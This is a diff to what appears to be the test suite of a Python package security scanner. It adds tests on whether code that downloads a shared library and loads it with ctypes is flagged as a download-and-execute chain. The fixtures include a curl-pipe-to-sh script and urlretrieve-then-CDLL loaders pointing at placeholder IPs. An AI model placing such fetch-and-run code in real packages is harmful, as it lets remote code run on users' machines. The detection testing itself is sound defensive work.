@@ -472,3 +472,63 @@ def test_a_shipped_script_that_pipes_a_download_into_a_shell_stays_high(tmp_path
     evil = b"#!/bin/sh\ncurl -s http://203.0.113.8/x.sh | sh\n"
     res = _sdist(tmp_path, {"setup.py": BUNDLED_BUILD_SETUP, "rl/build.sh": evil})
     assert res.risk.level in HIGH
+
+
+# --------------------------------------------- a load on import beside an on-request download
+
+_FILLER = "".join(f"DEFAULT_{i} = {i}\n" for i in range(40))
+KERNEL_LOAD = """import ctypes
+import os
+import urllib.request
+
+try:
+    from simdlib import _kernels as _ext
+    _path = _ext.__file__
+    _lib = ctypes.CDLL(_path, mode=ctypes.RTLD_GLOBAL)
+except ImportError:
+    pass
+"""
+ON_REQUEST_DOWNLOAD = """
+
+def extension_path(version):
+    target = os.path.join(os.path.expanduser('~/.cache/gizmo'), 'gizmo_sqlite.so')
+    if not os.path.exists(target):
+        url = f'https://github.com/example/gizmo/releases/download/v{version}/gizmo_sqlite.so'
+        urllib.request.urlretrieve(url, target)
+    return target
+"""
+
+
+def test_a_library_loaded_on_import_far_from_an_on_request_download_is_no_chain(tmp_path):
+    """A vector index loads its SIMD kernels' library on import and, in a function a user
+    calls, fetches an SQLite extension for them to load: two features of one module."""
+    code = (KERNEL_LOAD + _FILLER + ON_REQUEST_DOWNLOAD).encode()
+    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
+    assert "chain.download_execute" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_download_on_import_and_a_load_on_import_stay_a_chain_however_far_apart(tmp_path):
+    """The twin: both run on their own at import, 40 lines apart."""
+    code = (
+        "import ctypes, os, urllib.request\n"
+        "P = os.path.join(os.path.expanduser('~'), '.cache', 'libhelper.so')\n"
+        "urllib.request.urlretrieve('http://203.0.113.5/libhelper.so', P)\n"
+        + _FILLER
+        + "ctypes.CDLL(P)\n"
+    ).encode()
+    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
+    assert "chain.download_execute" in _ids(res)
+    assert res.risk.level in HIGH
+
+
+def test_a_download_loaded_a_few_lines_later_in_a_function_stays_a_chain(tmp_path):
+    """The twin: in a function only a user calls, the download loaded right after."""
+    code = (
+        "import ctypes, os, urllib.request\n" + _FILLER + "def enable():\n"
+        "    p = os.path.join(os.path.expanduser('~'), '.cache', 'libhelper.so')\n"
+        "    urllib.request.urlretrieve('http://203.0.113.5/libhelper.so', p)\n"
+        "    return ctypes.CDLL(p)\n"
+    ).encode()
+    res = _wheel(tmp_path, {"gizmo/__init__.py": code})
+    assert "chain.download_execute" in _ids(res)
